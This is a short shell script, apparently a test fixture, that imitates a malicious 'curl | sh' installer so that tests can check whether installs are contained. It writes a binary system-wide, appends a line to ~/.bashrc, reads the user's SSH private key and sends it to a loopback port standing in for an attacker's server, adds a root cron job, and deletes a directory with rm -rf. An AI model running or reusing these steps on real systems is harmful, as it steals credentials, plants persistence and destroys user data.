#!/bin/sh
# A "curl | sh"-style installer, written for the tests: it does what a
# malicious or careless one does.  Usage: dangerous_install.sh PORT
# (PORT: a loopback TCP port the test listens on, standing for the attacker's server).
port=$1

# 1. install a binary system-wide
mkdir -p /usr/local/bin
printf '#!/bin/sh\necho pwned\n' > /usr/local/bin/umlpy-test-x
chmod 755 /usr/local/bin/umlpy-test-x

# 2. persist through the user's shell startup file
echo 'export PATH="$HOME/.evil/bin:$PATH"  # added by installer' >> "$HOME/.bashrc"

# 3. steal the SSH key and upload it
key=$(cat "$HOME/.ssh/id_rsa" 2>/dev/null || echo "no key")
python3 - "$port" "$key" <<'PY'
import socket, sys
s = socket.socket()
try:
    s.connect(("127.0.0.1", int(sys.argv[1])))
    s.sendall(sys.argv[2].encode())
    print("uploaded")
except OSError as e:
    print("upload failed:", e.strerror)
PY

# 4. a cron entry
mkdir -p /etc/cron.d
echo '* * * * * root /usr/local/bin/umlpy-test-x' > /etc/cron.d/umlpy-test-evil

# 5. delete a directory
rm -rf "$HOME/project/old"
echo "install done"
